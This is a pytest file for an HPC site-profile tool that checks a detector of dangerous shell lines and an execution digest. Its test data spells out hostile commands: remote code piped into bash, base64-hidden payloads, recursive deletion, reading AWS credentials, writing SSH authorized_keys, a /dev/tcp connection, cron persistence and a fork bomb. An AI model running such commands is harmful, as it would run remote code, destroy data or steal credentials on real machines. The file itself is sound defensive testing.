"""What a profile runs is listed whole, digested, and its dangers are said; ordinary lines are not cried over."""

from __future__ import annotations

from typing import Any

import pytest

from infrarsi_hpc.domain.site import SiteProfile
from infrarsi_hpc.domain.site_execution import dangers_of, executed, execution_digest

DANGEROUS = {
    "curl http://example.invalid/x.sh | bash": "fetches from the network",
    "wget -qO- http://example.invalid/x | sh -s": "runs what it fetches",
    "bash <(curl -s http://example.invalid/x)": "runs what it fetches",
    "curl -o /tmp/a http://example.invalid && bash /tmp/a": "runs what it fetches",
    "source <(wget -qO- http://example.invalid)": "runs what it fetches",
    'sh -c "$(curl -fsSL http://example.invalid)"': "runs what it fetches",
    "rm -rf ~/checkpoints": "removes files",
    "rm -f -r /scratch/x": "removes files",
    "find . -name x -delete": "removes files",
    'eval "$X"': "runs text as code",
    "python3 -c 'import os'": "runs text as code",
    "echo aGk= | base64 -d | sh": "hides what it runs",
    "echo aGk= | base64 --decode > x": "hides what it runs",
    "cat x | /bin/bash": "hides what it runs",
    "sudo mount /x": "another user's rights",
    "chmod u+s /tmp/sh": "another user's rights",
    "echo alias ls=x >> ~/.bashrc": "run at login",
    "echo k > $HOME/.ssh/authorized_keys": "run at login",
    "(crontab -l; echo x) | crontab -": "run later",
    "./miner &": "run later",
    "cat ~/.aws/credentials": "reads credentials",
    "exec 3<>/dev/tcp/192.0.2.1/80": "opens a network connection",
    "chmod -R 777 /scratch": "to everybody",
    "sbatch other.sh": "submits or cancels",
    "pkill -u x": "kills processes",
    ":(){ :|:& };:": "floods the machine",
}
ORDINARY = (
    "module load cuda/12.4",
    "module purge",
    "ml PyTorch/2.1.2-foss-2023a-CUDA-12.1.1",
    "source /etc/profile.d/modules.sh",
    ". /usr/share/lmod/lmod/init/bash",
    "source $HOME/miniforge3/bin/activate train",
    "conda activate train",
    "export PATH=/opt/x/bin:$PATH",
    "export OMP_NUM_THREADS=8",
    "ulimit -n 65536",
    "umask 077",
    "spack load nccl",
)


@pytest.mark.parametrize("line", DANGEROUS)
def test_a_dangerous_line_is_said_to_be(line: str) -> None:
    assert any(DANGEROUS[line] in danger for danger in dangers_of(line, "environment.setup.0"))


@pytest.mark.parametrize("line", ORDINARY)
def test_an_ordinary_line_is_not(line: str) -> None:
    assert dangers_of(line, "environment.setup.0") == ()


def profile(**tables: Any) -> SiteProfile:
    return SiteProfile.model_validate({"schema_version": 1, "name": "x", **tables})


EXECUTED: dict[str, dict[str, Any]] = {
    "environment.setup.0": {"environment": {"setup": ["module load x"]}},
    "environment.variables.LD_PRELOAD": {"environment": {"variables": {"LD_PRELOAD": "/x.so"}}},
    "environment.variables.PATH": {"environment": {"variables": {"PATH": "/x"}}},
    "environment.variables.BASH_ENV": {"environment": {"variables": {"BASH_ENV": "/x"}}},
    "environment.variables.PYTHONSTARTUP": {"environment": {"variables": {"PYTHONSTARTUP": "/x"}}},
    "environment.variables.GREETING": {"environment": {"variables": {"GREETING": "$(id)"}}},
    "fabric.variables.NCCL_NET_PLUGIN": {"fabric": {"variables": {"NCCL_NET_PLUGIN": "x"}}},
    "launch.venv": {"launch": {"kind": "venv", "venv": "/x"}},
    "launch.image": {"launch": {"kind": "apptainer", "image": "/x.sif"}},
    "launch.python": {"launch": {"python": "/tmp/python"}},
    "launch.mounts.0": {"launch": {"mounts": ["/:/host"]}},
    "launch.srun_options.0": {"launch": {"srun_options": ["--task-prolog=/x"]}},
    "login_node.mail_command": {"login_node": {"mail_command": ["mail", "x"]}},
    "scheduler.bin": {"scheduler": {"bin": "/tmp/bin"}},
}


@pytest.mark.parametrize("field", EXECUTED)
def test_whatever_runs_is_listed_and_changes_the_digest(field: str) -> None:
    received = profile(**EXECUTED[field])
    assert [item.field for item in executed(received)] == [field]
    assert execution_digest(received) != execution_digest(profile())


def test_what_runs_nothing_leaves_the_digest_alone() -> None:
    quiet = profile(
        limits={"poll_seconds": 9.0},
        environment={"variables": {"OMP_NUM_THREADS": "8"}},
        fabric={"variables": {"NCCL_DEBUG": "INFO"}},
    )
    assert executed(quiet) == ()
    assert execution_digest(quiet) == execution_digest(profile())


def test_words_of_a_command_cannot_move_between_each_other() -> None:
    one, two = (profile(login_node={"mail_command": argv}) for argv in (["mail", "a b"], ["mail a", "b"]))
    assert execution_digest(one) != execution_digest(two)
